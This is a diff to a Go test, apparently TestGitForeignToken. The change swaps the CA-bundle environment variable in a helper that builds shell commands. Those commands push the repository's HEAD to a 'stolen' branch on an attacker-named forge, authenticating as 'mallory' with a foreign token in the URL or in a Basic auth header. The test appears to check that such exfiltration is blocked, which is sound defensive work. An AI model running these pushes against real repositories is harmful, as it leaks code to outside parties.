@@ -157,7 +157,7 @@ func TestGitForeignToken(t *testing.T) {
 	s.keepToken()
 	at := "https://mallory:" + attackToken + "@" + forgeName + "/" + dropRepo + ".git"
 	push := func(how, url string) []string {
-		return []string{"sh", "-c", "git -c http.sslCAInfo=${GIT_SSL_CAINFO:-" + s.State + "/bundle.pem} " + how + " push " + url + " HEAD:refs/heads/stolen"}
+		return []string{"sh", "-c", "git -c http.sslCAInfo=${REQUESTS_CA_BUNDLE:-" + s.State + "/bundle.pem} " + how + " push " + url + " HEAD:refs/heads/stolen"}
 	}
 	plain := "https://" + forgeName + "/" + dropRepo + ".git"
 	header := `-c http.extraHeader="Authorization: Basic $(printf mallory:` + attackToken + ` | base64 -w0)"`
